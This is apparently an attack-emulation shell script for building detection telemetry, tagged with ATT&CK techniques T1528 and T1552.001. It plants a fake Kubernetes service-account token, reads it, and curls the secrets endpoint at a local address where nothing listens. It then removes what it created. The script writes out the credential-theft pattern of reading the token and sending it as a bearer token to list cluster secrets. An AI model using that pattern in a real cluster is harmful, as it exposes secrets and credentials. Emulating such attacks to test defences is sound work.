# techniques: T1528 T1552.001
# Kubernetes service-account token stolen from its well-known path and used against the API
# server. This host is not a pod, so the path /var/run/secrets/kubernetes.io/serviceaccount/ is
# created with a fake token if absent (and the created directories removed afterwards; an
# existing real token is only read into /dev/null). The API call goes to 127.0.0.1:6443 where
# nothing listens (connection refused).
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
sa=/var/run/secrets/kubernetes.io/serviceaccount
created=
if [ ! -e "$sa/token" ]; then
  for d in /var/run/secrets /var/run/secrets/kubernetes.io $sa; do
    if [ ! -e $d ]; then created=$d; break; fi
  done
  [ -n "$created" ] || exit 0   # the directory exists without a token: leave it alone
  mkdir -p $sa
  echo 'eyJhbGciOiJSUzI1NiJ9.ZmFrZS1zZW5zb3ItY29ycHVz.ZmFrZQ' > $sa/token
  echo default > $sa/namespace
fi
cat $sa/token > /dev/null
cat $sa/namespace > /dev/null 2>&1
# only with the fake token: a real one must not end up in the recording's argv
if [ -n "$created" ] && command -v curl >/dev/null; then
  curl -sk --max-time 2 -H "Authorization: Bearer $(cat $sa/token)" \
    https://127.0.0.1:6443/api/v1/namespaces/default/secrets > /dev/null
fi
[ -n "$created" ] && rm -rf "$created"
exit 0
